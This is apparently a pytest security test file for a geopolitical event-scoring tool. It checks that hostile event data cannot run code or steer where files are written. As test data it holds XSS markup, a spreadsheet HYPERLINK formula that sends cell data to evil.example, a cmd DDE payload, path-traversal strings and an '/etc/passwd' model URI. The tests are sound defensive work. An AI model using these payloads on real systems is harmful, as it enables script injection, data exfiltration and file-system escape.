"""Hostile content: markup in event data never runs, data never picks a write path, models come only from the registry.

One project is built once: a synthetic world plus a delivery of hostile events (HTML and
JavaScript in the text, actor names, dataset and ids, ``javascript:`` source references,
spreadsheet formulas, path-traversal bait in ``batch_id``/``source_file`` columns) ingested
through the CLI, a champion registered in the project's MLflow SQLite registry, and scores
from ``tension score``. The report is then rendered by a real ``tension report`` process.
"""
from __future__ import annotations

import csv
import io
import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from hardening_tools import run
from tension.cli import main

EVIL = "<script>document.title='PWNED'</script><img src=x onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">x</a>"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
BAIT = "../../../../escape-hatch"
JS_REF = "javascript:alert(document.cookie)"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, world_csv: Path, template_db: Path) -> dict:
    project = tmp_path_factory.mktemp("hostile") / "project"
    (project / "data").mkdir(parents=True)
    shutil.copy(template_db, project / "data" / "mlflow.db")
    world = pd.read_csv(world_csv, dtype=str, keep_default_na=False)
    last = pd.to_datetime(world["date"]).max()
    countries = sorted(set(world["source_country"]) - {""})
    rows = []
    for i in range(40):
        a, b = countries[i % 3], countries[(i % 3) + 1]
        rows.append({
            "event_id": f"evil-{i}", "date": str((last - pd.Timedelta(days=i % 20)).date()),
            "source_actor": f"Militia {EVIL}", "source_country": a, "target_actor": f"{FORMULA} {EVIL}",
            "target_country": b, "cameo_code": "190", "source_ref": JS_REF if i % 2 else FORMULA,
            "text": f"Border clash {EVIL} {FORMULA}", "dataset": "hostile", "weight": "50",
            "batch_id": BAIT, "source_file": BAIT, "ingested_at": BAIT, "source_line": "-7",
        })
    # a hostile "country" must never become a dyad
    rows.append({**rows[0], "event_id": "evil-country", "source_country": "<SCRIPT>", "target_country": "<B>"})
    hostile_csv = project / "hostile.csv"
    pd.DataFrame(rows).to_csv(hostile_csv, index=False)
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(project)
        mp.delenv("TENSION_STORE", raising=False)
        mp.delenv("MLFLOW_TRACKING_URI", raising=False)
        assert main(["ingest", str(world_csv), "--format", "csv"]) == 0
        assert main(["ingest", str(hostile_csv), "--format", "csv"]) == 0
        _register_champion(project)
        scores = project / "data" / "scores" / "scores.parquet"
        assert main(["score", "--out", str(scores)]) == 0
    return {"project": project, "scores": scores, "hostile_csv": hostile_csv}


def _register_champion(project: Path) -> None:
    from tension.backtest import fit_final
    from tension.config import load_experiment
    from tension.models import make_logit
    from tension.panel import build_panel
    from tension.store import Store
    from tension.tracking import track_train

    store = Store(str(project / "data" / "store"))
    exp = load_experiment(None)
    panel = build_panel(store, freq="W", dyads="directed", config=exp.panel, regions=exp.regions)
    cutoff = sorted(panel["period"].unique())[-8]
    est, info = fit_final(make_logit(), panel, cutoff, "W", horizon=4)
    track_train(est, panel[panel["period"] <= cutoff], experiment=exp, model_name="logit", store=store,
                alias="champion", features=info["features"])


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def _report(hostile: dict, fmt: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch | None = None) -> str:
    """``tension report``: a real process for HTML, in-process (same code, no start-up cost) for the others."""
    out = tmp_path / f"report.{fmt}"
    args = ["report", "--scores", str(hostile["scores"]), "--format", fmt, "--out", str(out)]
    if monkeypatch is None:
        proc = run(args, cwd=hostile["project"])
        assert proc.returncode == 0, proc.stderr[-2000:]
    else:
        monkeypatch.chdir(hostile["project"])
        monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
        monkeypatch.delenv("TENSION_STORE", raising=False)
        assert main(args) == 0
    return out.read_text(encoding="utf-8")


# --------------------------------------------------------------------------- the report


def test_hostile_events_reach_the_report_only_as_inert_text(hostile: dict, tmp_path: Path) -> None:
    html = _report(hostile, "html", tmp_path)
    # the planted events are really in the page (as evidence), escaped
    assert "&lt;script&gt;document.title=" in html and "Border clash" in html
    parser = _Tags()
    parser.feed(html)
    tags = parser.tags
    assert not [t for t, _ in tags if t in ("script", "iframe", "object", "embed", "base", "form")]
    assert not [t for t, a in tags if t == "img"], "an <img> from data would fire onerror"
    for tag, attrs in tags:
        assert not [k for k in attrs if k.startswith("on")], (tag, attrs)
        for key in ("href", "src", "action", "formaction", "xlink:href"):
            value = attrs.get(key, "").strip().lower()
            assert not value.startswith(("javascript:", "data:text/html", "vbscript:")), (tag, attrs)
    csp = [a.get("content", "") for t, a in tags if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"]
    assert len(csp) == 1 and "default-src 'none'" in csp[0] and "script-src" not in csp[0].replace("default-src", "")
    # the javascript: reference is shown as text, never linked
    assert "javascript:alert(document.cookie)" in html


def test_markdown_report_carries_no_raw_html(hostile: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    md = _report(hostile, "md", tmp_path, monkeypatch)
    assert "Border clash" in md
    assert "<script" not in md.lower() and "<img" not in md.lower() and "](javascript:" not in md.lower()


def test_csv_report_cells_never_start_a_formula(hostile: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = _report(hostile, "csv", tmp_path, monkeypatch)
    assert "HYPERLINK" in text  # the formula text is there, inside the evidence
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only numbers may start with a sign


def test_csv_report_neutralises_formula_cells_from_any_text_column(hostile: dict) -> None:
    from tension.reports import load_scores, render_report

    scores = load_scores(hostile["scores"])
    scores["region"] = FORMULA
    scores["model_version"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    text = render_report(scores, format="csv")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@"):
                float(cell)


def test_json_report_round_trips_hostile_text_unchanged(hostile: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    data = json.loads(_report(hostile, "json", tmp_path, monkeypatch))
    texts = [e["text"] for s in data["scores"] for e in s["evidence"]]
    assert any(EVIL in t for t in texts)


# --------------------------------------------------------------------------- the store and the dyads


def test_hostile_columns_in_the_data_never_choose_where_or_what_is_written(hostile: dict) -> None:
    from tension.store import Store

    project = hostile["project"]
    store = Store(project / "data" / "store")
    events = store.read()
    evil = events[events["event_id"].str.contains(":evil-", regex=False)]
    assert len(evil) == 41
    batches = store.batches()["batch_id"].tolist()
    assert set(evil["batch_id"]) == {batches[-1]} and BAIT not in batches
    assert set(evil["source_file"]) == {str(hostile["hostile_csv"])}
    assert (evil["source_line"] >= 2).all() and evil["ingested_at"].notna().all()
    assert not list(project.parent.rglob("*escape-hatch*")), "a file was written from a path in the data"
    for path in store.files():
        assert Path(path).resolve().is_relative_to((project / "data" / "store").resolve())
    # text is stored as given: nothing stripped, nothing executed
    assert (evil["text"].str.contains(EVIL, regex=False)).all() and (evil["source_actor"] == f"Militia {EVIL}").all()


def test_a_hostile_country_never_forms_a_dyad(hostile: dict) -> None:
    from tension.store import Store

    events = Store(hostile["project"] / "data" / "store").read()
    row = events[events["event_id"].str.endswith(":evil-country")].iloc[0]
    assert pd.isna(row["source_country"]) and pd.isna(row["target_country"])
    scores = pd.read_parquet(hostile["scores"])
    assert scores["dyad"].str.fullmatch(r"[A-Z]{3}[>|][A-Z]{3}").all()


def test_a_batch_id_cannot_walk_out_of_the_store(tmp_path: Path) -> None:
    from tension.errors import UsageError
    from tension.simulate import simulate
    from tension.store import Store

    events = simulate(seed=1, countries=3, years=0.1).events.head(5)
    store = Store(tmp_path / "a" / "b" / "store")
    try:
        store.append(events, batch_id="../../../../escape-hatch")
    except UsageError:
        pass
    assert not [p for p in tmp_path.rglob("*.parquet") if not p.resolve().is_relative_to(Path(store.root).resolve())]


def _markup_file(tmp_path: Path) -> Path:
    path = tmp_path / "markup.txt"
    path.write_text("[/evil]\tAccuse\t[bold red]Azerbaijan\t2014-06-14\n[link=https://x]Armenia\tAccuse\tAzerbaijan\t2014-06-15\n"
                    "[/evil]\tNot a verb\tAzerbaijan\t2014-06-16\n")
    return path


def test_markup_in_actor_names_is_printed_literally_by_ingest(tmp_path: Path) -> None:
    proc = run(["ingest", str(_markup_file(tmp_path)), "--store", str(tmp_path / "store")], cwd=tmp_path)
    assert proc.returncode == 0 and "[/evil]" in proc.stdout  # the summary is a result: stdout


def test_markup_in_quarantined_lines_is_printed_literally_by_store_info(tmp_path: Path) -> None:
    from tension.ingest import ingest

    ingest([_markup_file(tmp_path)], tmp_path / "store")  # the library itself is fine
    proc = run(["store", "info", "--store", str(tmp_path / "store"), "--quarantine", "5"], cwd=tmp_path)
    assert proc.returncode == 0 and "[/evil]" in proc.stdout


# --------------------------------------------------------------------------- models only from the registry


REFUSED_URIS = [
    "file:///tmp/model", "/tmp/model", "runs:/0123456789abcdef/model", "s3://bucket/model", "mlflow-artifacts:/1/model",
    "http://127.0.0.1:9/model", "models:/../../../etc/passwd", "models://evil@databricks/tension/1",
]


def test_score_loads_models_only_from_the_configured_registry(hostile: dict, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
    monkeypatch.chdir(hostile["project"])
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    for uri in REFUSED_URIS:
        code = main(["score", "--model", uri, "--out", "x.parquet"])
        err = capsys.readouterr().err
        assert code == 2, (uri, code, err[-1500:])
        assert "Unexpected error" not in err
    assert not (hostile["project"] / "x.parquet").exists()
    # the same through the console script
    proc = run(["score", "--model", "file:///tmp/model"], cwd=hostile["project"], timeout=120)
    assert proc.returncode == 2 and "registry" in proc.stderr
